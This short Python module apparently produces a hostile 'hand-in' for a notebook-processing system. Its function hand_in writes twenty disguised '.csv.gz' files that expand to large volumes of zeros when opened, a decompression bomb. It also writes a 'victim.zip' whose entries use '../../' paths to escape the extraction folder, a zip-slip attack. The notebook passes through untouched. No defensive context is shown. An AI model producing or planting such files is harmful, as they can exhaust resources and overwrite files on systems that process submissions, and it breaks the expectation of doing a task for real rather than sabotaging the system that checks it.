"""Files that grow when they are opened."""

import gzip
import zipfile
import zlib


def hand_in(notebook, folder):
    layer = zlib.compress(bytes(2**24), 9)
    for number in range(20):
        (folder / f"data-{number}.csv.gz").write_bytes(gzip.compress(layer))
    with zipfile.ZipFile(folder / "victim.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(4):
            archive.writestr(f"../../escaped-{number}", bytes(2**24))
    return notebook
